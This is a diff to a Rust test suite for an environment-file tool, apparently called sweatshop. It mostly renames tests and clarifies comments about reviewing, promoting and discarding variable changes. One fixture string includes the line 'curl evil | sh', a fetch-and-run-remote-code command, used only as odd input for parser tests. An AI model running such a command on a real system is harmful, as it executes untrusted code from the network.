@@ -9,12 +9,13 @@ fn a_second_review_has_nothing_to_do() {
     app.apply(&["env", "snapshot"]).exit(0);
     app.apply(&["env", "review"]).exit(0);
     app.apply(&["env", "review"]).exit(0).err_has("nothing to review");
-    // An answer to a question that nobody asked is another matter.
+    // An answer without a question is an error.
     app.apply(&["env", "review", "--keep", "A"]).exit(1).any_err();
 }
 
+/// Case 15 of the design.
 #[test]
-fn case_15_changes_by_value_in_order_and_removals_are_only_told() {
+fn changes_are_compared_by_value_and_removals_only_mentioned() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\nC = \"1\"\nD = \"1\"\n");
@@ -69,12 +70,12 @@ fn each_answer_does_what_it_says() {
     out.err_has("added OURS").out_has("promoted A").out_has("discarded GONE");
     let sweatfile = "# how we work\nsetup = [] # none\n[env]\nA = \"2\" # why\nsetpu = \"kept\"\nNEW = \"it's\"\n";
     assert_eq!(app.read("sweatfile"), sweatfile);
-    // Only what has no answer yet is asked again.
+    // Only changes without an answer are asked about again.
     assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added OURS\n");
     app.apply(&["env", "review", "--keep", "OURS"]).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
     app.apply(&["env", "diff"]).exit(1).any_err();
-    // The approval moved along, and this worktree is what its sweatfiles say.
+    // The new text is approved too, and this worktree matches its sweatfiles.
     app.apply(&["check"]).exit(0);
     app.apply(&[]).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
@@ -156,7 +157,7 @@ fn on_a_terminal_each_change_is_offered_and_quitting_changes_nothing() {
 }
 
 #[test]
-fn what_apply_itself_changes_is_nothing_to_review() {
+fn changes_made_by_apply_are_not_reviewed() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\nB = \"1\"\n");
@@ -208,7 +209,7 @@ fn a_dry_run_refuses_what_the_run_would_refuse() {
 }
 
 #[test]
-fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
+fn variables_for_only_one_reader_are_reviewed_too() {
     let w = World::new();
     let app = w.app();
     let before = "# mine\nA=1\n";
@@ -216,7 +217,7 @@ fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
     app.apply(&["env", "snapshot"]).exit(0);
     let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
     app.write(".sweatshop-env", &format!("{before}{added}"));
-    // Where there is a direnv, it is asked what it loads.
+    // A real direnv, where there is one, shows what it loads.
     if crate::support::world::find("direnv").is_some() {
         let plain = added.replace("curl evil | sh\n", "");
         app.write("direnv", &plain);
@@ -237,7 +238,7 @@ fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
     let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
     app.apply(&[&["env", "review"][..], &discard].concat()).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
-    // What direnv alone reads can be everybody's.
+    // A variable that only direnv reads can be promoted for everybody.
     app.apply(&["env", "snapshot"]).exit(0);
     app.write(".sweatshop-env", "A=1\nB: two\n");
     app.apply(&["env", "review", "--promote", "B"]).exit(0);
@@ -245,7 +246,7 @@ fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
 }
 
 #[test]
-fn what_stands_in_one_piece_of_text_goes_together_or_not_at_all() {
+fn variables_in_one_piece_of_text_are_discarded_together() {
     let w = World::new();
     let app = w.app();
     app.write(".sweatshop-env", "G=x\n");
